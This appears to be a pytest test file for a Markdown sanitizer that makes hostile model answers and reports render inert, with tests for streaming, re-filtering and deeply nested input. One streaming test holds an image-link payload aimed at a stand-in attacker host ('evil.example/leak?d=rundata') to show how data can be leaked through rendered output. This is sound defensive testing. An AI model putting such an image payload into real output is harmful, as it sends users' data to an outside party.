"""inert_markdown: hostile Markdown (model answers, reports) comes out loading and running nothing,
checked by how markdown-it-py renders the OUTPUT with raw HTML on and every link target allowed;
ordinary Markdown renders as it did."""
from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from rundash_core import ai
from rundash_core.safety import inert_markdown
from rundash_core.views import reports

from helpers.hostile import EVIL, HOSTILE_MARKDOWN

_ORACLE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_ORACLE.validateLink = lambda url: True  # keep every target: the output itself must be safe


def html(md: str) -> str:
    return _ORACLE.render(md)


def assert_inert(md: str) -> None:
    out = html(md)
    assert "<img" not in out and "<svg" not in out and "<script" not in out, out
    assert not re.findall(r"<(?!/?(?:p|a|em|strong|s|code|pre|h[1-6]|ul|ol|li|blockquote|hr|br|table|thead|"
                          r"tbody|tr|th|td)\b)[a-z!?/]", out), out  # no raw HTML, comments included
    for href in re.findall(r'href="([^"]*)"', out):
        assert href.startswith(("http://", "https://", "trajectory?", "metrics?")), out
    assert "evil.example/s.png" not in re.findall(r'src="([^"]*)"', out)


@pytest.mark.parametrize("source", list(HOSTILE_MARKDOWN.values()), ids=list(HOSTILE_MARKDOWN))
def test_hostile_markdown_is_inert(source):
    assert_inert(inert_markdown.inert(source))
    assert_inert(ai.safe_markdown(source))
    assert_inert("".join(ai.safe_lines(source[i:i + 3] for i in range(0, len(source), 3))))
    assert_inert(reports.safe_markdown(source, run_id="r", sample_ids={"abc123def"}))


def test_inert_output_is_a_fixed_point_for_safety():
    """Filtering twice (what a cached answer re-rendered sees) stays inert and unchanged in HTML."""
    for source in HOSTILE_MARKDOWN.values():
        once = inert_markdown.inert(source)
        assert html(inert_markdown.inert(once)) == html(once)


def test_an_image_becomes_the_link_it_named():
    out = html(inert_markdown.inert(f"!![chart]({EVIL})"))
    assert out == f'<p>!<a href="{EVIL.replace("&", "&amp;")}">chart</a></p>\n'
    assert 'href="https://fine.example/v">a</a>' in html(inert_markdown.inert(HOSTILE_MARKDOWN["nested image in link"]))


ORDINARY = """# Title

Some *emphasis*, **strong**, ~~struck~~ and `code <b>` with a [link](https://example.com/a_(b)).
A second line: 3 * 4 = 12, a_b_c, 50% & more! (parens) {braces} "quotes" 'single'.

- one
- two
  - nested
1. first
2. second

3. loose
4. list

> quote
> more

| name | value |
|:-----|------:|
| a | `x|y` |
| **b** | 2 |

```python
x = "<b>"  # ![not an image](http://x)
```

    indented code

___

see https://x.com/step_12/abc then
"""


def test_ordinary_markdown_renders_as_before():
    assert html(inert_markdown.inert(ORDINARY)) == html(ORDINARY)
    streamed = "".join(ai.safe_lines(ORDINARY[i:i + 7] for i in range(0, len(ORDINARY), 7)))
    assert html(streamed).replace("\n", "") == html(ORDINARY).replace("\n", "")


def test_stream_pieces_join_and_cut_only_between_blocks():
    chunks = ["See !", "[chart](http://evil.example/leak?d=run", "data)\n\n```\nq\n\n", "z\n```\nend"]
    pieces = list(ai.safe_lines(chunks))
    assert len(pieces) == 2 and "```\nq\n\nz\n```" in pieces[1]  # a fence is never cut
    assert_inert("".join(pieces))


def test_nesting_past_the_parser_limit_shows_the_lines_as_text():
    """markdown-it drops what is nested past its limit: those blocks come out as escaped lines."""
    deep = ">" * 500 + f" hidden ![a]({EVIL}) text\n\nafter"
    out = inert_markdown.inert(deep)
    assert_inert(out)
    assert "hidden" in html(out) and "after" in html(out)
    listed = "".join(" " * i + f"- item{i}\n" for i in range(0, 200, 2))
    assert "item198" in html(inert_markdown.inert(listed))
